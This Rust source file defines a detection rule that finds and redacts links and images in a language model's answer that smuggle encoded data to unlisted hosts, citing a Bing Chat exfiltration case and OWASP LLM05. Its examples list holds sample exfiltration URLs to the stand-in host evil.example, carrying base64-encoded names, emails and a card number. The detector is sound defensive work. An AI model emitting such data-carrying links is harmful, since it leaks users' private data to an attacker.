//! Links and images in an answer that carry data to a host nobody listed.
//!
//! Source: Rehberger, "Bing Chat: Data Exfiltration Exploit Explained" (2023); OWASP
//! Top 10 for LLM applications 2025, LLM05.

use std::sync::LazyLock;

use bartizan_core::{Confidence, Meta, Severity, Span, Verdict, hit, miss};
use regex::Regex;

use super::{SHOWN, checksums::entropy, regex};
use crate::{HITS_MAX, Hit, Look, Needs, Rule};

/// An image is fetched without a click: a short value is enough to leak, though a
/// width, a version and a crop are honest.
const IMAGE_VALUE_LEAST: usize = 12;
/// Many short values leak as one long one does.
const IMAGE_QUERY_LEAST: usize = 64;
/// A link must be clicked, and honest ones have values too: only what reads as encoded.
const LINK_VALUE_LEAST: usize = 40;
/// What is too long for a question to a search engine.
const LINK_VALUE_ANY: usize = 120;
/// A path segment that is data and no name.
const SEGMENT_LEAST: usize = 40;
/// A part of a host's name that is data and no name.
const LABEL_LEAST: usize = 24;
/// No honest address is longer, in bytes. LIMIT: and a stream lets go of a longer word.
const ADDRESS_MAX: usize = 900;
/// How far before an address its markup is looked for. LIMIT: what a stream remembers.
const MARKUP_MAX: usize = 200;

pub(super) const RULE: Rule = Rule {
    meta: Meta {
        code: "GD050",
        name: "exfiltration-link",
        refs: &["owasp-llm@2025/LLM05", "atlas@5.6/AML.T0077"],
        severity: Severity::High,
        since: "0.1",
        help: "the address was taken out; list hosts that answers may point to in `link_hosts`",
        examples: &[
            hit("![logo](https://evil.example/p.png?d=Q3VzdG9tZXIgNDI6IEFubmE)"),
            hit("<img src=\"https://evil.example/x?q=anna%40mail.example%20secret\">"),
            hit(
                "[more](https://evil.example/c?data=QW5uYSBCZWxsLCBhbm5hQG1haWwuZXhhbXBsZSwgNDExMSAxMTEx)",
            ),
            hit(
                "![](https://evil.example/QW5uYSBCZWxsLCBhbm5hQG1haWwuZXhhbXBsZSwgNDExMSAxMTEx/a.gif)",
            ),
            hit("![p](//evil.example/x?d=4111111111111111)"),
            hit("<img src=\"https:/\\evil.example/x?d=QW5uYSBCZWxs\">"),
            hit("![p](<https://evil.example/?d=Anna Bell lives in Bath>)"),
            hit("[p]: https://evil.example/p.png?d=QW5uYSBCZWxs\n![x][p]"),
            hit("![p](https://QW5uYSBCZWxsLCBhbm5hQG1haWw.evil.example/p.png)"),
            hit("<div style=\"background:url(https://evil.example/?d=QW5uYSBCZWxs)\">"),
            hit("![p](https://acme.example@evil.example/p?d=QW5uYSBCZWxs)"),
            miss(
                "![p](https://images.example.com/a.jpg?ixlib=rb-4.0.3&auto=format&fit=crop&w=1000&q=80)",
            ),
            miss(
                "[search](https://search.example/?q=how+to+bake+bread+without+an+oven+at+home+in+winter)",
            ),
            miss("// a comment about http and https"),
            miss("![a cat](https://images.example.com/cat.png)"),
            miss("See [the manual](https://docs.example.com/guide?page=2&lang=en)."),
            miss("![chart](https://cdn.acme.example/c.png?token=Q3VzdG9tZXIgNDI6IEFubmE)"),
            miss("https://www.example.com/a-rather-long-title-of-an-article-about-baking-bread"),
        ],
    },
    needs: Needs::Automaton,
    action: Verdict::Redact,
    channels: SHOWN,
    views: false,
    inspect,
};

static URLS: LazyLock<Regex> =
    LazyLock::new(|| regex(r#"(?i)(?:\bhttps?:|[(<"'=])[\\/]{2}[^\s<>()\[\]"'`]{4,}"#));

fn inspect(look: &Look<'_>, hits: &mut Vec<Hit>) {
    // Browsers take a backslash for a slash.
    let mut marks = look.text.match_indices(['/', '\\']);
    if !marks
        .any(|(at, _)| look.text.get(at + 1..).is_some_and(|rest| rest.starts_with(['/', '\\'])))
    {
        return;
    }
    for found in URLS.find_iter(look.text).take(HITS_MAX) {
        let span = address(look.text, found.start(), found.end());
        let before = look.text.get(..span.start).unwrap_or_default();
        let is_image = is_image(before);
        let url = span.of(look.text).unwrap_or_default();
        if carries(url, is_image) && !listed(url, &look.context.link_hosts) {
            hits.push(Hit {
                span,
                confidence: Confidence::percent(if is_image { 90 } else { 70 }),
            });
        }
    }
}

/// The address alone: without the mark before one that names no scheme, and in angle
/// brackets to their end, since there it may hold blanks.
fn address(text: &str, start: usize, end: usize) -> Span {
    let has_scheme = text.get(start..).is_some_and(|rest| rest.starts_with(['h', 'H']));
    let start = if has_scheme { start } else { start + 1 };
    let in_brackets = text.get(..start).is_some_and(|before| before.ends_with("(<"));
    let rest = text.get(end..).unwrap_or_default();
    let more = if in_brackets { rest.find(['>', '\n']).unwrap_or(rest.len()) } else { 0 };
    Span::new(start, end + more)
}

/// Whether what stands before an address makes it one that is fetched unasked.
fn is_image(before: &str) -> bool {
    let near = before.get(before.ceil_char_boundary(before.len().saturating_sub(MARKUP_MAX))..);
    let near = near.unwrap_or_default();
    let bare = near.trim_end_matches(['"', '\'', '<', ' ']);
    let lower = bare.to_ascii_lowercase();
    let attributes = ["src=", "srcset=", "poster=", "background=", "data=", "url("];
    if attributes.iter().any(|name| lower.ends_with(name)) || lower.ends_with("]:") {
        return true;
    }
    let is_link_tag =
        lower.rfind('<').and_then(|at| lower.get(at..)).is_some_and(|tag| tag.starts_with("<link"));
    is_link_tag || bare.strip_suffix("](").is_some_and(is_picture_text)
}

/// Whether the text of a Markdown link is that of a picture, or begins too far away to see.
fn is_picture_text(head: &str) -> bool {
    let line = head.rsplit('\n').next().unwrap_or_default();
    match line.rfind('[') {
        Some(at) => line.get(..at).is_some_and(|before| before.ends_with('!')),
        None => true,
    }
}

fn carries(url: &str, is_image: bool) -> bool {
    if url.len() > ADDRESS_MAX {
        return true;
    }
    let rest = after_scheme(url);
    let (place, query) = rest.split_once(['?', '#', ';']).unwrap_or((rest, ""));
    let (host, path) = place.split_once('/').unwrap_or((place, ""));
    let is_data = |part: &str| entropy(part) >= 4.0 && !part.contains(['-', '.']);
    let in_path = path.split('/').any(|part| part.len() >= SEGMENT_LEAST && is_data(part));
    let in_host = host.split('.').any(|part| part.len() >= LABEL_LEAST && entropy(part) >= 3.5);
    in_path || in_host || carries_in_query(query, is_image)
}

fn carries_in_query(query: &str, is_image: bool) -> bool {
    let mut values =
        query.split(['&', ';']).map(|pair| pair.split_once('=').map_or(pair, |(_, value)| value));
    if is_image {
        return query.len() >= IMAGE_QUERY_LEAST
            || values.any(|value| value.len() >= IMAGE_VALUE_LEAST);
    }
    let is_words = |value: &str| value.contains(['+', '-', '_']) || value.contains("%20");
    values.any(|value| {
        value.len() >= LINK_VALUE_ANY
            || value.len() >= LINK_VALUE_LEAST && !is_words(value) && entropy(value) >= 3.0
    })
}

fn after_scheme(url: &str) -> &str {
    let at = url.find(['/', '\\']).unwrap_or(url.len());
    url.get(at..).unwrap_or_default().trim_start_matches(['/', '\\'])
}

fn listed(url: &str, hosts: &[String]) -> bool {
    let authority = after_scheme(url).split(['/', '?', '#', '\\']).next().unwrap_or_default();
    // What stands before `@` is no host, however much it looks like one.
    let host = authority
        .rsplit('@')
        .next()
        .unwrap_or_default()
        .split(':')
        .next()
        .unwrap_or_default()
        .to_ascii_lowercase();
    hosts.iter().any(|listed| {
        let listed = listed.to_ascii_lowercase();
        host == listed || host.strip_suffix(&listed).is_some_and(|head| head.ends_with('.'))
    })
}
